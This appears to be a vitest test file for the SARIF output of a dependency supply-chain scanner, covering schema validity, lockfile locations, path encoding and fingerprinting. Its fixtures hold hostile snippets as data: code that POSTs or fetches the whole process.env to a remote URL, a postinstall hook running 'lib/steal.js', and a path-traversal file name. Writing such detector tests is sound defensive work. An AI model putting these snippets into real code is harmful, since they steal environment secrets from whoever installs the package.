import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildSarif } from '../../../src/report/sarif.ts'
import { ruleCatalog } from '../../../src/report/rule-catalog.ts'
import type { Finding, ScanReport } from '../../../src/types.ts'
import { githubSarifProblems, sarifSchemaErrors } from '../../helpers/sarif-schema.ts'
import { diffReport, pkg } from './sample-report.ts'

interface Log {
  runs: Array<{
    tool: { driver: { rules: Array<{ id: string; helpUri?: string; defaultConfiguration: { enabled: boolean; level: string }; properties: { 'security-severity': string; tags: string[] } }> } }
    results: Array<{
      ruleId: string
      level: string
      message: { text: string }
      locations: Array<{ physicalLocation: { artifactLocation: { uri: string; uriBaseId?: string }; region?: { startLine: number; startColumn?: number } } }>
      relatedLocations?: Array<{ physicalLocation: { artifactLocation: { uri: string }; region?: { startLine: number; snippet?: { text: string } } }; message: { text: string } }>
      partialFingerprints: Record<string, string>
    }>
    originalUriBaseIds: Record<string, { uri: string }>
    invocations: Array<{ executionSuccessful: boolean; toolExecutionNotifications?: Array<{ level: string; message: { text: string } }> }>
  }>
}

let repo: string
let lockfile: string

beforeAll(async () => {
  repo = await mkdtemp(join(tmpdir(), 'tarsier-sarif-'))
  await mkdir(join(repo, '.git'))
  await mkdir(join(repo, 'app'))
  lockfile = join(repo, 'app', 'package-lock.json')
  await writeFile(lockfile, '{}\n')
})
afterAll(() => rm(repo, { recursive: true, force: true }))

const exfil = (line: number, snippet = 'https.request(u, { method: "POST" }).end(JSON.stringify(process.env))'): Finding => ({
  ruleId: 'env-exfiltration',
  severity: 'critical',
  message: 'The whole process.env is sent in a network request',
  file: 'lib/steal.js',
  line,
  column: 5,
  snippet,
  entryKind: 'install',
})

function sample(shift = 0): ScanReport {
  return diffReport(lockfile, [
    pkg('evil-helper', '1.0.1', [exfil(3 + shift), exfil(40 + shift), { ruleId: 'install-script', severity: 'medium', message: 'postinstall runs node lib/steal.js', file: 'package.json', snippet: 'node lib/steal.js' }], {
      lockfileLine: 120 + shift,
      change: { kind: 'added', name: 'evil-helper', version: '1.0.1', location: 'node_modules/evil-helper', lockfileLine: 120 + shift },
      path: ['toolkit', 'evil-helper'],
    }),
    pkg('lodash', '4.17.21', [{ ruleId: 'integrity-changed', severity: 'critical', message: 'lodash@4.17.21 keeps its version but its integrity changes', line: 64 + shift }], {
      change: { kind: 'integrity-changed', name: 'lodash', version: '4.17.21', location: 'node_modules/lodash' },
    }),
    pkg('odd-files', '2.0.0', [{ ruleId: 'obfuscated-code', severity: 'high', message: 'obfuscator.io string array', file: '../../x y#1%.js', line: 1 }], { lockfileLine: 200 + shift, location: 'node_modules/a/node_modules/odd-files' }),
    pkg('gone', '1.0.0', [], { status: 'failed', error: 'E404 not found', verdict: 'clean' }),
  ])
}

describe('SARIF output', () => {
  it('validates against the SARIF 2.1.0 schema and meets what GitHub code scanning requires', () => {
    const log = buildSarif(sample(), { docsBaseUrl: 'https://github.com/example/tarsier/blob/v1/' })
    expect(sarifSchemaErrors(log)).toEqual([])
    expect(githubSarifProblems(log as never)).toEqual([])
    // Without a docs URL the rules have no helpUri and the log is still valid.
    const plain = buildSarif(sample())
    expect(sarifSchemaErrors(plain)).toEqual([])
    expect((plain as Log).runs[0]!.tool.driver.rules.every((r) => r.helpUri === undefined)).toBe(true)
  })

  it('lists every package and tree rule with its doc link, security-severity and tags', () => {
    const log = buildSarif(sample(), { docsBaseUrl: 'https://github.com/example/tarsier/blob/v1/' }) as Log
    const rules = log.runs[0]!.tool.driver.rules
    const catalog = ruleCatalog()
    expect(rules.map((r) => r.id)).toEqual(catalog.map((r) => r.id))
    for (const tree of ['integrity-changed', 'lockfile-injection', 'paired-package-handoff']) expect(rules.map((r) => r.id)).toContain(tree)
    const band: Record<string, [number, number]> = { critical: [9, 10], high: [7, 8.9], medium: [4, 6.9], low: [0.1, 3.9], info: [0.1, 3.9] }
    for (const [i, rule] of rules.entries()) {
      const meta = catalog[i]!
      expect(rule.helpUri).toBe(`https://github.com/example/tarsier/blob/v1/${meta.docs}`)
      const score = Number(rule.properties['security-severity'])
      expect(score, rule.id).toBeGreaterThanOrEqual(band[meta.severity]![0])
      expect(score, rule.id).toBeLessThanOrEqual(band[meta.severity]![1])
      expect(rule.properties.tags).toEqual(expect.arrayContaining(['security', 'supply-chain']))
    }
  })

  it('locates a dependency finding at its lockfile line, with the file inside the package as a related location', () => {
    const log = buildSarif(sample()) as Log
    const run = log.runs[0]!
    expect(run.originalUriBaseIds['%SRCROOT%']!.uri).toBe(`file://${repo}/`)
    const first = run.results[0]!
    expect(first.ruleId).toBe('env-exfiltration')
    expect(first.level).toBe('error')
    expect(first.locations[0]!.physicalLocation).toEqual({ artifactLocation: { uri: 'app/package-lock.json', uriBaseId: '%SRCROOT%' }, region: { startLine: 120 } })
    const related = first.relatedLocations![0]!
    expect(related.physicalLocation.artifactLocation.uri).toBe('app/node_modules/evil-helper/lib/steal.js')
    expect(related.physicalLocation.region).toMatchObject({ startLine: 3, startColumn: 5, snippet: { text: expect.stringContaining('process.env') } })
    expect(related.message.text).toContain('inside evil-helper@1.0.1')
    // The message carries the in-package place too: GitHub shows only the first location.
    expect(first.message.text).toContain('evil-helper@1.0.1 (added)')
    expect(first.message.text).toContain('lib/steal.js:3:5')
  })

  it('puts a tree-rule finding (a lockfile line, no file) at that line, without a related location', () => {
    const result = (buildSarif(sample()) as Log).runs[0]!.results.find((r) => r.ruleId === 'integrity-changed')!
    expect(result.locations[0]!.physicalLocation.region).toEqual({ startLine: 64 })
    expect(result.relatedLocations).toBeUndefined()
  })

  it('encodes hostile file paths so that they stay inside the package', () => {
    const result = (buildSarif(sample()) as Log).runs[0]!.results.find((r) => r.ruleId === 'obfuscated-code')!
    expect(result.relatedLocations![0]!.physicalLocation.artifactLocation.uri).toBe('app/node_modules/a/node_modules/odd-files/%2E%2E/%2E%2E/x%20y%231%25.js')
  })

  it('gives stable fingerprints: the same when lines move, different for different evidence, numbered when identical', () => {
    const fingerprints = (report: ScanReport) => (buildSarif(report) as Log).runs[0]!.results.map((r) => r.partialFingerprints.primaryLocationLineHash)
    const before = fingerprints(sample())
    const after = fingerprints(sample(7))
    expect(after).toEqual(before)
    expect(new Set(before).size).toBe(before.length)
    // The two identical exfiltration findings (same file and snippet) share the hash and differ by ordinal.
    expect(before[0]!.replace(/:\d+$/, '')).toBe(before[1]!.replace(/:\d+$/, ''))
    expect([before[0]!.split(':')[1], before[1]!.split(':')[1]]).toEqual(['1', '2'])
    const changed = sample()
    changed.packages[0]!.findings[0]!.snippet = 'fetch(u, { body: JSON.stringify(process.env) })'
    expect(fingerprints(changed)[0]).not.toBe(before[0])
    const otherVersion = sample()
    otherVersion.packages[0]!.version = '1.0.2'
    expect(fingerprints(otherVersion)[0]).not.toBe(before[0])
  })

  it('reports packages that were not scanned and the warnings as notifications, and the run as unsuccessful', () => {
    const report = sample()
    report.warnings.push('suppression of install-script for a@1.0.0 in tarsier.config.json expired on 2026-01-01')
    const invocation = (buildSarif(report) as Log).runs[0]!.invocations[0]!
    expect(invocation.executionSuccessful).toBe(false)
    expect(invocation.toolExecutionNotifications).toEqual([
      { level: 'error', message: { text: 'gone@1.0.0 was not scanned: E404 not found' } },
      { level: 'warning', message: { text: expect.stringContaining('expired on 2026-01-01') } },
    ])
  })

  it('applies the configuration: rules switched off are disabled, overridden severities change the score, suppressed findings are left out', () => {
    const report = sample()
    report.config = { path: 'tarsier.config.json', readFrom: 'main (0123456789ab)', rules: { 'install-script': 'off', 'obfuscated-code': 'low' }, suppressions: { applied: 1, expired: 0, unused: 0 } }
    report.packages[1]!.suppressed = [{ ...report.packages[1]!.findings.pop()!, suppression: { reason: 'reviewed' } }]
    const log = buildSarif(report) as Log
    const rule = (id: string) => log.runs[0]!.tool.driver.rules.find((r) => r.id === id)!
    expect(rule('install-script').defaultConfiguration.enabled).toBe(false)
    expect(rule('obfuscated-code').properties['security-severity']).toBe('3.0')
    expect(rule('obfuscated-code').defaultConfiguration.level).toBe('note')
    expect(log.runs[0]!.results.some((r) => r.ruleId === 'integrity-changed')).toBe(false)
    expect(sarifSchemaErrors(log)).toEqual([])
  })

  it("locates a finding of the project's own code in that file", () => {
    const report = diffReport(lockfile, [
      pkg('my-app', '1.0.0', [{ ruleId: 'ide-autorun-task', severity: 'high', message: 'a task runs on folder open', file: '.vscode/tasks.json', line: 4, runs: 'folder-open' }], { source: 'root', location: '' }),
    ])
    delete report.diff
    report.target = join(repo, 'app')
    const result = (buildSarif(report) as Log).runs[0]!.results[0]!
    expect(result.locations[0]!.physicalLocation).toEqual({ artifactLocation: { uri: 'app/.vscode/tasks.json', uriBaseId: '%SRCROOT%' }, region: { startLine: 4 } })
    expect(result.message.text).toContain('folder is opened')
  })
})
